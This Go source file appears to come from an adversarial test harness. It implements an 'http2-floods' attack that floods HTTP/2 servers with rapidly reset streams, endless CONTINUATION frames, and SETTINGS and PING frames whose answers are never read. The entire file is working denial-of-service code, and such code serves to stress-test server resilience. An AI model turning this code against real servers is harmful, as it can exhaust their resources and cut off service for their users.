package attack

import (
	"bytes"
	"context"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

var http2Floods = Attack{
	Name: "http2-floods", shows: "frames", web: true, flood: true,
	What: "HTTP/2: streams that are reset at once, streams without end, headers without end, settings and pings, none of whose answers are read",
	run: func(ctx context.Context, e *Enemy) error {
		return e.each(ctx, e.size(16, 5), func(ctx context.Context, i int) error {
			c, err := e.dialHTTP(ctx, i, "h2")
			if err != nil {
				return err
			}
			defer c.Close()
			if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
				return err
			}
			f := http2.NewFramer(c, c)
			if err := f.WriteSettings(); err != nil {
				return err
			}
			var block bytes.Buffer
			h := hpack.NewEncoder(&block)
			for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", webItems}} {
				if err := h.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
					return err
				}
			}
			for id := uint32(1); ctx.Err() == nil; id += 2 {
				e.pace.wait(ctx)
				switch i % 5 {
				case 0, 1:
					err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
					if err == nil && i%5 == 0 {
						err = f.WriteRSTStream(id, http2.ErrCodeCancel)
					}
				case 2:
					if id == 1 {
						err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()})
						break
					}
					err = f.WriteContinuation(1, false, []byte{0, 1, 'x', 1, 'y'})
				case 3:
					err = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: id})
				case 4:
					err = f.WritePing(false, [8]byte{byte(id)})
				}
				if err != nil {
					return err
				}
				e.count("frames", 1)
			}
			return nil
		})
	},
}
